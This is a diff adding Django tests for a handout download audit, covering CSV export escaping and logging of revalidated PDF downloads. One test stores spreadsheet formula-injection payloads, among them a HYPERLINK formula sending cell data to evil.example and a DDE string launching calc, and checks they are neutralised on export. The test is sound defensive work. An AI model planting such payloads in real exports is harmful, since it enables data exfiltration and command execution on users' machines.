@@ -92,3 +92,54 @@ def test_partner_staff_cannot_open_the_audit(client, users):
 def test_editor_groups_may_view_ledger_and_audit(group):
     codenames = set(Group.objects.get(name=group).permissions.values_list("codename", flat=True))
     assert {"view_renderjob", "view_pdfversion", "view_downloadauditentry"} <= codenames
+
+
+def test_csv_export_hands_spreadsheets_no_formulas(client, users, handouts):
+    import csv
+    import io
+
+    page = handouts["restricted"]
+    attacks = [
+        '=HYPERLINK("https://evil.example/?d="&A1,"Anleitung")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    for title in attacks:
+        DownloadAuditEntry.objects.create(
+            username="staff-a", page=page, page_title=title, version=1
+        )
+    client.force_login(users["editor"])
+    response = client.get("/admin/download-protokoll/", {"export": "csv"})
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    titles = {row[3] for row in rows[1:]}
+    assert titles == {"'" + title for title in attacks}
+    assert {row[4] for row in rows[1:]} == {"1"}, "numbers stay numbers"
+
+
+def test_revalidated_restricted_downloads_are_recorded_too(client, users, handouts):
+    page = handouts["restricted"]
+    client.force_login(users["staff_a"])
+    first = client.get(f"/pdf/{page.pk}/v1/")
+    assert first.status_code == 200
+    by_etag = client.get(f"/pdf/{page.pk}/v1/", HTTP_IF_NONE_MATCH=first["ETag"])
+    latest = client.get(f"/pdf/{page.pk}/")
+    by_date = client.get(f"/pdf/{page.pk}/", HTTP_IF_MODIFIED_SINCE=latest["Last-Modified"])
+    assert (by_etag.status_code, by_date.status_code) == (304, 304)
+    assert list(DownloadAuditEntry.objects.order_by("pk").values_list("version", flat=True)) == [
+        1,
+        1,
+        2,
+        2,
+    ]
+
+
+def test_revalidated_public_downloads_are_not_recorded(client, users, handouts):
+    page = handouts["public"]
+    client.force_login(users["staff_a"])
+    first = client.get(f"/pdf/{page.pk}/v1/")
+    assert client.get(f"/pdf/{page.pk}/v1/", HTTP_IF_NONE_MATCH=first["ETag"]).status_code == 304
+    assert not DownloadAuditEntry.objects.exists()
